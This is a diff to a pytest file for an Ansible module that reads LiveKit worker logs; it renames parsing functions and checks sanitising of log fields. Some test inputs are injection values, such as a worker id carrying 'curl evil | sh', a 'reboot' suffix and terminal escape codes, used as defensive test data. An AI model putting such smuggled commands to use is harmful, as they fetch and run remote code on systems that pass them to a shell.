@@ -3,10 +3,12 @@
 from __future__ import annotations
 
 import json
+from collections.abc import Mapping
 from typing import Any
 
 import pytest
-from ansible.module_utils.livekit_deploy.worker import worker_log
+from ansible.module_utils.livekit_deploy.common import times
+from ansible.module_utils.livekit_deploy.worker import log_events, log_words, worker_log
 
 
 def line(message: str, **fields: Any) -> str:
@@ -40,19 +42,19 @@ DISCONNECTED = line("failed to connect to livekit, retrying in 2s")
     ],
 )
 def test_reading_follows_the_latest_registration(lines: list[str], expected: dict[str, Any]) -> None:
-    found = worker_log.read(lines)
+    found: Mapping[str, object] = worker_log.log_reading(lines)
     assert {key: found[key] for key in expected} == expected
 
 
 @pytest.mark.parametrize("worker_id", ["AW_1; curl evil | sh #", "AW_1\x1b[2J", 7, ["AW_1"], "AJ_1"])
 def test_registration_with_an_id_that_no_server_makes_is_none(worker_id: Any) -> None:
-    found = worker_log.read([registered("AW_2"), line("registered worker", id=worker_id, agent_name="other", url="ws://other")])
+    found = worker_log.log_reading([registered("AW_2"), line("registered worker", id=worker_id, agent_name="other", url="ws://other")])
     assert (found["worker_ids"], found["agent_name"], found["url"]) == (["AW_2"], "sidekick", "ws://livekit:7880")
 
 
 def test_names_in_a_log_are_one_line_of_plain_text() -> None:
     asked = line("received job request", job_id="AJ_1", dispatch_id="AD_1; reboot", room="r\n\x1b[31mstop it: reboot", agent_name={"a": 1})
-    found = worker_log.read([registered("AW_1", "a\nb\x1b]0;title\x07"), asked])
+    found = worker_log.log_reading([registered("AW_1", "a\nb\x1b]0;title\x07"), asked])
     assert found["agent_name"] == "a b"
     assert found["requests"][0] == {"job_id": "AJ_1", "dispatch_id": None, "room": "r stop it: reboot", "agent_name": None, "time": None}
 
@@ -125,30 +127,32 @@ def failure(message: str, error: str | None, time: str | None) -> dict[str, Any]
     ],
 )
 def test_reading_tells_what_troubles_the_worker(lines: list[str], expected: dict[str, Any]) -> None:
-    found = worker_log.read(lines)
+    found: Mapping[str, object] = worker_log.log_reading(lines)
     assert {key: found[key] for key in expected} == expected
 
 
 def test_token_in_an_address_is_not_repeated() -> None:
     error = "404, message='Not Found', url='wss://x/agent?worker_token=hidden'"
-    assert worker_log.read([refused(1, error)])["last_failure"]["error"] == "404, message='Not Found', url='wss://x/agent?…'"
+    failure = worker_log.log_reading([refused(1, error)])["last_failure"]
+    assert failure is not None
+    assert failure["error"] == "404, message='Not Found', url='wss://x/agent?…'"
 
 
 def test_what_was_before_the_window_is_not_counted() -> None:
     lines = [registered("AW_1"), request(1, "AJ_old"), CRASH, refused(6, WRONG_KEY), request(10, "AJ_new")]
-    found = worker_log.read(lines, since=worker_log.epoch(CLOCK.format(8)))
+    found = worker_log.log_reading(lines, since=times.epoch(CLOCK.format(8)))
     counted = {key: found[key] for key in ("requests_total", "entrypoint_errors", "failures", "unauthorized", "last_entrypoint_error")}
     assert counted == {"requests_total": 1, "entrypoint_errors": 0, "failures": 0, "unauthorized": 0, "last_entrypoint_error": None}
     assert ([r["job_id"] for r in found["requests"]], found["worker_id"], found["connected"]) == (["AJ_new"], "AW_1", False)
 
 
 def test_request_without_a_time_counts() -> None:
-    assert worker_log.read([line("received job request", job_id="AJ_1")], since=1e9)["requests_total"] == 1
+    assert worker_log.log_reading([line("received job request", job_id="AJ_1")], since=1e9)["requests_total"] == 1
 
 
 def test_newest_requests_and_registrations_are_kept() -> None:
     lines = [request(1, f"AJ_{n}") for n in range(600)] + [registered(f"AW_{n}") for n in range(6000)]
-    found = worker_log.read(lines)
+    found = worker_log.log_reading(lines)
     assert (found["requests_total"], len(found["requests"]), found["requests"][-1]["job_id"]) == (600, 500, "AJ_599")
     assert (found["reconnects"], len(found["registrations"]), len(found["worker_ids"]), found["worker_ids"][-1]) == (
         5999,
@@ -159,13 +163,13 @@ def test_newest_requests_and_registrations_are_kept() -> None:
 
 
 def test_request_asked_for_is_kept_however_many_followed() -> None:
-    found = worker_log.read([request(1, "AJ_wanted"), *(request(1, f"AJ_{n}") for n in range(600))], after={"AJ_wanted"})
+    found = worker_log.log_reading([request(1, "AJ_wanted"), *(request(1, f"AJ_{n}") for n in range(600))], after={"AJ_wanted"})
     assert [r["job_id"] for r in found["requests"]] == ["AJ_wanted"]
 
 
 @pytest.mark.parametrize("fields", [{"job_id": {}, "room": []}, {"job_id": None}, {"timestamp": 5}, {"timestamp": "soon"}])
 def test_field_of_another_type_is_no_trouble(fields: dict[str, Any]) -> None:
-    assert worker_log.read([line("received job request", **fields)], after={"r"}, since=1.0)["requests_total"] == 1
+    assert worker_log.log_reading([line("received job request", **fields)], after={"r"}, since=1.0)["requests_total"] == 1
 
 
 @pytest.mark.parametrize(
@@ -179,17 +183,17 @@ def test_field_of_another_type_is_no_trouble(fields: dict[str, Any]) -> None:
     ],
 )
 def test_time_of_a_line_is_read_as_utc_unless_it_says_otherwise(text: Any, expected: float | None) -> None:
-    assert worker_log.epoch(text) == expected
+    assert times.epoch(text) == expected
 
 
 def test_reading_lists_each_job_request_with_its_ids() -> None:
     asked = line("received job request", job_id="AJ_1", dispatch_id="AD_1", room="r1", agent_name="a", timestamp="t")
     expected = {"job_id": "AJ_1", "dispatch_id": "AD_1", "room": "r1", "agent_name": "a", "time": "t"}
-    assert worker_log.read([asked])["requests"] == [expected]
+    assert worker_log.log_reading([asked])["requests"] == [expected]
 
 
 def test_reading_tells_which_patterns_appear() -> None:
-    found = worker_log.read([line("tool call", tool="lookup_order")], ["tool call", "never said"])
+    found = worker_log.log_reading([line("tool call", tool="lookup_order")], ["tool call", "never said"])
     assert found["log_matches"] == {"tool call": 0.0}
 
 
@@ -203,7 +207,7 @@ def test_reading_tells_which_patterns_appear() -> None:
 )
 def test_pattern_of_an_earlier_call_proves_nothing(after: set[str], expected: dict[str, float]) -> None:
     lines = [line("received job request", room="old-room"), line("tool call"), line("received job request", room="new-room")]
-    assert worker_log.read(lines, ["tool call"], after)["log_matches"] == expected
+    assert worker_log.log_reading(lines, ["tool call"], after)["log_matches"] == expected
 
 
 @pytest.mark.parametrize(
@@ -216,10 +220,10 @@ def test_pattern_of_an_earlier_call_proves_nothing(after: set[str], expected: di
     ],
 )
 def test_short_line_keeps_what_a_message_needs(raw: str, expected: str) -> None:
-    assert worker_log.short(raw) == expected
+    assert log_events.short(raw) == expected
 
 
 def test_last_lines_leave_out_the_requests_that_never_reached_the_application() -> None:
     said = ["registered worker", "received job request", "probe answered", "unhandled exception", "request passed on, gate is closed"]
     lines = [json.dumps({"message": message, "level": "INFO"}) for message in said] + ["plain words"]
-    assert worker_log.telling(lines, 2) == [lines[3], "plain words"]
+    assert log_words.telling(lines, 2) == [lines[3], "plain words"]
